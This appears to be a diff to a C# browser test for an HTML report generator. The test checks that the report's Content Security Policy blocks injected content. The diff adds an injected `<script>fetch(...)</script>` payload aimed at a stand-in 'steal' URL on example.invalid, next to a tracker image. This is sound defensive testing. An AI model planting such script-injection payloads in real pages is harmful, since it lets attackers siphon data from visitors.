@@ -64,13 +64,19 @@ public class ReportInBrowserTests(GeneratedReports reports)
     [Fact]
     public async Task The_reports_content_security_policy_blocks_what_escaping_might_miss()
     {
-        var page = new SegAlign.Reports.ReportPage("injected").Add("<img src=\"https://example.invalid/tracker.png\">");
+        var page = new SegAlign.Reports.ReportPage("injected")
+            .Add("<img src=\"https://example.invalid/tracker.png\"><script>fetch('https://example.invalid/steal')</script>")
+            .Chart(new System.Text.Json.Nodes.JsonObject { ["data"] = new System.Text.Json.Nodes.JsonArray() });
         string path = Path.Combine(reports.NotebookFolderPath, "injected.html");
         page.Save(path);
 
         var visit = await (await reports.Browser()).VisitAsync(path);
 
         Assert.Empty(visit.BlockedNetworkRequests);
-        Assert.Contains(visit.ConsoleErrors, e => e.Contains("Content Security Policy", StringComparison.Ordinal));
+        // Chromium's wording changes between versions ("Refused to load …", "Loading … violates …"); the gist does not.
+        Assert.Contains(visit.ConsoleErrors, e => e.Contains("example.invalid/tracker.png", StringComparison.Ordinal) && e.Contains("Content Security Policy", StringComparison.Ordinal));
+        Assert.Contains(visit.ConsoleErrors, e => e.Contains("inline script", StringComparison.OrdinalIgnoreCase) && e.Contains("Content Security Policy", StringComparison.Ordinal));
+        // The page's own scripts are allowed by their hashes: its chart is drawn.
+        Assert.Equal(1, visit.DrawnCharts);
     }
 }
